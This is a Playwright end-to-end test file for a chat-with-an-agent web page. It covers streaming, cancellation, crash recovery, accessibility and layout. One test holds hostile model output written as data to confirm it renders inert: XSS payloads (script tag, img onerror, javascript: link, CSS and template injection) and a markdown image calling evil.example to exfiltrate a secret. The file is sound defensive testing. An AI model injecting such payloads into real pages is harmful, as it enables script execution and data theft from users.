/** The page in a browser, before the real server: what a person asks, sees, stops and comes back to. */
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
import { type ChatAnswer, chat, chatError, chats } from "../../src/testing/fault-chat.ts";
import { type FaultServer, startFaultServer } from "../../src/testing/fault-server.ts";
import { launchChromium } from "./chromium.ts";
import { Served } from "./served.ts";
import { type Visit, type VisitOptions, visit } from "./visit.ts";

const patience = { timeout: 120_000 };
let browser: Browser;
/** With nothing configured: answers are scripted. */
let scripted: Served;
/** With a provider of the tests' own behind OpenAI's wire. */
let provided: Served;
let provider: FaultServer;

beforeAll(async () => {
  provider = await startFaultServer(chat({ text: "unused" }));
  // Chromium first: installing it is not the server's time.
  browser = await launchChromium();
  scripted = await Served.start();
  provided = await Served.start({ OPENAI_BASE_URL: `${provider.url}/v1` });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await scripted?.close();
  await provided?.close();
  await provider?.close();
});

async function open(served: Served, options?: VisitOptions): Promise<Visit> {
  served.check();
  const visited = await visit(browser, `${served.url}/`, options);
  onTestFinished(() => visited.close());
  return visited;
}

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole("textbox", { name: "Question" }).fill(question);
  await page.keyboard.press("Enter");
  await page.waitForURL(/\?run=run_/);
}

const ended = (page: Page, status: string): Promise<void> => page.locator(".run-status", { hasText: status }).waitFor();
const answer = (page: Page): Promise<string> =>
  page.locator(".answer .line").evaluateAll((lines) => lines.map((line) => line.textContent).join("\n"));
const answering = (page: Page, words: string): Promise<void> => page.locator(".answer", { hasText: words }).waitFor();

/** `w0 w1 w2 …`: text of which any loss or repetition shows. */
const counted = (words: number): string => Array.from({ length: words }, (_, at) => `w${at}`).join(" ");
const slowly = (words: number): ChatAnswer => ({ text: counted(words), paceMs: 25 });

describe("a question", patience, () => {
  test("is answered with a tool, and every state lights up on the way", async () => {
    const { page, strangers, faults, lit } = await open(scripted);
    await ask(page, "What is 12.5% of 8460?");
    await ended(page, "Done");
    expect(await answer(page)).toContain("1057.5");
    const tool = page.locator(".tool");
    expect(await tool.locator("summary").textContent()).toMatch(/calculator[\s\S]*1057\.5/);
    expect(await tool.locator("pre").first().isVisible()).toBe(false);
    await tool.locator("summary").click();
    expect(await tool.locator("pre").first().textContent()).toContain("12.5 / 100 * 8460");

    expect(await lit()).toEqual(expect.arrayContaining(["running", "thinking", "calling", "dispatching"]));
    const thinking = page.getByRole("list", { name: "States of run/agent", exact: true }).getByText("thinking").locator("..");
    expect(await thinking.textContent()).toMatch(/2×/);
    expect(await page.locator(".visit-now").count()).toBe(0);

    const row = page.getByRole("navigation", { name: "List of runs" }).locator("[aria-current=page]");
    await row.getByText("Done").waitFor();
    expect(await row.textContent()).toMatch(/assistant[\s\S]*tokens/);
    expect(await page.getByRole("note").textContent()).toContain("Answers are scripted: no model is connected.");
    expect(strangers).toEqual([]);
    expect(faults).toEqual([]);
  });

  test("has an address that restores it, and back leads away from it", async () => {
    const { page } = await open(scripted);
    await ask(page, "What is 2 + 2?");
    await ended(page, "Done");
    const address = page.url();
    await page.goBack();
    await page.getByRole("heading", { name: "Ask an agent" }).waitFor();
    await page.goForward();
    await answering(page, "4");
    const other = await visit(browser, address);
    onTestFinished(() => other.close());
    await answering(other.page, "4");
    await other.page.locator(".asked", { hasText: "What is 2 + 2?" }).waitFor();
  });

  test("keeps its line breaks with Shift Enter and is not sent when empty", async () => {
    const { page } = await open(scripted);
    const box = page.getByRole("textbox", { name: "Question" });
    await box.focus();
    await page.keyboard.press("Enter");
    await page.keyboard.type("one");
    await page.keyboard.press("Shift+Enter");
    await page.keyboard.type("two");
    expect(await box.inputValue()).toBe("one\ntwo");
    expect(page.url()).not.toContain("run=");
  });
});

describe("an answer that streams", patience, () => {
  test("is stopped by Escape and keeps what was written", async () => {
    provider.use(chat(slowly(2_000)));
    const { page } = await open(provided);
    await ask(page, "Count for a long time");
    await answering(page, "w10 ");
    await page.keyboard.press("Escape");
    await ended(page, "Cancelled");
    expect(await answer(page)).toMatch(/^w0 w1 w2 /);
    expect(await page.getByRole("button", { name: "Cancel" }).count()).toBe(0);
    expect(await page.locator(".caret").count()).toBe(0);
  });

  test("is stopped by the button", async () => {
    provider.use(chat(slowly(2_000)));
    const { page } = await open(provided);
    await ask(page, "Count again");
    await answering(page, "w5 ");
    await page.getByRole("button", { name: "Cancel" }).click();
    await ended(page, "Cancelled");
  });

  test("goes on where it was after a reload", async () => {
    provider.use(chat(slowly(160)));
    const { page } = await open(provided);
    await ask(page, "Count to 160");
    await answering(page, "w20 ");
    await page.reload();
    await answering(page, "w20 ");
    expect(await page.locator(".run-status").textContent()).toBe("Running");
    await ended(page, "Done");
    expect(await answer(page)).toBe(counted(160));
  });

  test("goes on after the server was gone, with what was there kept and the time said", async () => {
    provider.use(chat(slowly(200)));
    const { page } = await open(provided);
    await ask(page, "Count across a crash");
    await answering(page, "w15 ");
    await provided.kill();
    await page.locator(".banner", { hasText: /Disconnected since \d\d:\d\d:\d\d/ }).waitFor();
    expect(await answer(page)).toContain("w15");
    expect(await page.locator(".away").textContent()).toMatch(/Disconnected since \d\d:\d\d:\d\d/);
    await provided.start();
    await page.locator(".banner").waitFor({ state: "detached" });
    await ended(page, "Done");
    // The call died with its process and was made again; what had been shown of it was taken back.
    expect(await page.locator(".answer .text").last().textContent()).toBe(counted(200));
    await page.locator(".taken-back").waitFor();
    await page.getByText("Live", { exact: true }).waitFor();
  });

  test("tells in the timeline why it was made again", async () => {
    provider.use(chats([chatError(500, "a bad moment"), { text: "All good." }]));
    const { page } = await open(provided);
    await ask(page, "Try twice");
    await ended(page, "Done");
    const retry = page.locator(".fact", { hasText: /Retrying in/ });
    expect(await retry.locator(".fact-reason").textContent()).not.toBe("");
    expect(await page.locator(".fact", { hasText: /Call c\d+ failed/ }).textContent()).toContain("a bad moment");
  });

  test("may be hostile: it is text and nothing else", async () => {
    const hostile = [
      '<script>document.title = "owned"; parent.owned = true</script>',
      '<img src="https://evil.example/pixel.png" onerror="document.title=\'owned\'">',
      "![exfiltrate](https://evil.example/steal?d=secret) [click](javascript:alert(1))",
      "<style>* { display: none }</style></div></main><h1>Not ours</h1>",
      "\u202e\u0000 <iframe srcdoc='<script>1</script>'></iframe> {{constructor.constructor('return 1')()}}",
    ].join("\n");
    provider.use(chat({ text: [hostile] }));
    const { page, strangers, faults } = await open(provided);
    await ask(page, '<b onclick="x">Hello</b>');
    await ended(page, "Done");
    expect((await answer(page)).replaceAll("\u0000", "")).toBe(hostile.replaceAll("\u0000", ""));
    expect(await page.locator(".asked").textContent()).toContain('<b onclick="x">Hello</b>');
    expect(await page.title()).not.toContain("owned");
    expect(await page.locator("main :is(img, script, iframe, style, b)").count()).toBe(0);
    expect(strangers).toEqual([]);
    expect(faults).toEqual([]);
  });

  test("at 100 words a second costs no frame", async () => {
    provider.use(chat({ text: counted(400), paceMs: 10 }));
    const { page } = await open(provided);
    await ask(page, "Count quickly");
    await answering(page, "w20 ");
    const slow = await page.evaluate(async () => {
      const gaps: number[] = [];
      let last = performance.now();
      while (gaps.length < 120) {
        const now = await new Promise<number>((resolve) => requestAnimationFrame(resolve));
        gaps.push(now - last);
        last = now;
      }
      return gaps.sort((a, b) => a - b)[60] as number;
    });
    // Half of the frames come within two of the display's, even where nothing but the processor draws.
    expect(slow).toBeLessThan(34);
    await ended(page, "Done");
    expect(await answer(page)).toBe(counted(400));
  });
});

describe("what cannot be shown", patience, () => {
  test("is said: a run that does not exist", async () => {
    const { page } = await open(scripted);
    await page.goto(`${scripted.url}/?run=run_nobody`);
    await page.getByRole("heading", { name: "There is no such run" }).waitFor();
    await page.getByRole("link", { name: "Ask something" }).click();
    await page.getByRole("heading", { name: "Ask an agent" }).waitFor();
  });

  test("is said: a run that failed, with the error's words", async () => {
    provider.use(chat({ text: "", finish: "stop" }));
    provider.use(() => chatError(400, "this model does not like you"));
    const { page } = await open(provided);
    await ask(page, "Fail, please");
    await ended(page, "Failed");
    expect(await page.locator(".end-line").textContent()).toContain("this model does not like you");
  });
});

describe("the page", patience, () => {
  test("is used by keyboard alone, and shows where the focus is", async () => {
    const { page } = await open(scripted);
    await page.getByRole("textbox", { name: "Question" }).waitFor();
    await page.keyboard.type("What is 3 * 3?");
    await page.keyboard.press("Enter");
    await ended(page, "Done");
    await page.locator(".row").first().focus();
    await page.keyboard.press("Tab");
    await page.keyboard.press("Shift+Tab");
    const outline = await page.evaluate(() => getComputedStyle(document.activeElement as Element).outlineStyle);
    expect(outline).toBe("solid");
    await page.keyboard.press("ArrowDown");
    expect(await page.evaluate(() => document.activeElement?.className)).toBe("row");
    const target = await page.evaluate(() => (document.activeElement as HTMLAnchorElement).search);
    await page.keyboard.press("Enter");
    await page.waitForURL((url) => url.search === target);
  });

  test.each([
    [1_920, 1_080],
    [1_280, 800],
    [1_000, 700],
    [390, 844],
    [320, 568],
  ])("fits %d wide: nothing sticks out, nothing overlaps, no scroll bar inside a scroll bar", async (width, height) => {
    const { page } = await open(scripted, { width, height });
    await page.locator(".rail-list, .rail-note").waitFor();
    for (const view of ["ask", "run"]) {
      if (view === "run") {
        await ask(page, "What is 12.5% of 8460?");
        await ended(page, "Done");
      }
      expect(await page.evaluate(misfits), view).toEqual([]);
    }
  });

  test.each(["light", "dark"] as const)("has AA contrast when it is %s", async (scheme) => {
    const { page } = await open(scripted, { scheme });
    await page.locator(".rail-list, .rail-note").waitFor();
    expect(await page.evaluate(faint)).toEqual([]);
    await ask(page, "What is 12.5% of 8460?");
    await answering(page, "1057.5");
    await page.locator(".tool summary").click();
    expect(await page.evaluate(faint)).toEqual([]);
  });

  test("stands still for whoever wants less motion", async () => {
    const { page } = await open(scripted, { reducedMotion: "reduce" });
    await ask(page, "What is 12.5% of 8460?");
    await ended(page, "Done");
    expect(await page.evaluate(() => document.getAnimations().length)).toBe(0);
  });
});

/** Runs in the page: elements that stick out of the window, panes that scroll within panes, texts that lie on each other. */
function misfits(): string[] {
  const found: string[] = [];
  const name = (element: Element): string => `${element.tagName.toLowerCase()}.${element.className}`;
  const scrolls = (element: Element): boolean =>
    /auto|scroll/.test(getComputedStyle(element).overflowY) && element.scrollHeight > element.clientHeight + 1;
  const texts: { readonly element: Element; readonly box: DOMRect }[] = [];
  for (const element of document.querySelectorAll("body *")) {
    const box = element.getBoundingClientRect();
    if (box.width === 0 || box.height === 0 || element.closest(".visually-hidden, .skip, svg") || !element.checkVisibility()) continue;
    if (box.right > innerWidth + 1 || box.left < -1) found.push(`${name(element)} sticks out`);
    if (scrolls(element)) {
      for (let outer = element.parentElement; outer !== null && outer !== document.documentElement; outer = outer.parentElement) {
        if (scrolls(outer)) found.push(`${name(element)} scrolls inside ${name(outer)}`);
      }
    }
    if (element.closest("h2, textarea, select")) continue;
    const pane = element.closest("section, .rail-list")?.getBoundingClientRect();
    for (const node of element.childNodes) {
      if (node.nodeType !== Node.TEXT_NODE || node.textContent?.trim() === "") continue;
      const range = document.createRange();
      range.selectNodeContents(node);
      const clips = getComputedStyle(element).overflowX === "hidden";
      for (const { left, top, right, bottom } of range.getClientRects()) {
        const end = clips ? Math.min(right, box.right) : right;
        const line = new DOMRect(left, top, end - left, bottom - top);
        const inside = pane === undefined || (line.bottom <= pane.bottom + 1 && line.top >= pane.top - 1);
        if (inside) texts.push({ element, box: line });
      }
    }
  }
  for (const [at, { element, box }] of texts.entries()) {
    for (const other of texts.slice(at + 1)) {
      if (element === other.element) continue;
      const wide = Math.min(box.right, other.box.right) - Math.max(box.left, other.box.left);
      const high = Math.min(box.bottom, other.box.bottom) - Math.max(box.top, other.box.top);
      if (wide > 1 && high > 3) found.push(`${name(element)} lies on ${name(other.element)}`);
    }
  }
  return found;
}

/** Runs in the page: texts with less contrast than 4.5 to 1. Disabled controls are exempt (WCAG 1.4.3). */
function faint(): string[] {
  const canvas = document.createElement("canvas").getContext("2d", { willReadFrequently: true }) as CanvasRenderingContext2D;
  const rgba = (color: string): number[] => {
    canvas.clearRect(0, 0, 1, 1);
    canvas.fillStyle = color;
    canvas.fillRect(0, 0, 1, 1);
    return [...canvas.getImageData(0, 0, 1, 1).data];
  };
  const light = ([r = 0, g = 0, b = 0]: number[]): number => {
    const [x = 0, y = 0, z = 0] = [r, g, b].map((part) => {
      const share = part / 255;
      return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * x + 0.7152 * y + 0.0722 * z;
  };
  const found = new Set<string>();
  for (const element of document.querySelectorAll("body *")) {
    const own = [...element.childNodes].some((node) => node.nodeType === Node.TEXT_NODE && node.textContent?.trim() !== "");
    if (!own || element.closest(":disabled, .visually-hidden, .skip, noscript") || !element.checkVisibility()) continue;
    let ground = [0, 0, 0, 0];
    for (let at: Element | null = element; at !== null && ground[3] !== 255; at = at.parentElement) {
      const color = rgba(getComputedStyle(at).backgroundColor);
      if (color[3] === 255) ground = color;
    }
    const [dark = 0, bright = 0] = [light(rgba(getComputedStyle(element).color)), light(ground)].sort((a, b) => a - b);
    const contrast = (bright + 0.05) / (dark + 0.05);
    if (contrast < 4.5) found.add(`${element.tagName.toLowerCase()}.${element.className}: ${contrast.toFixed(2)}`);
  }
  return [...found];
}
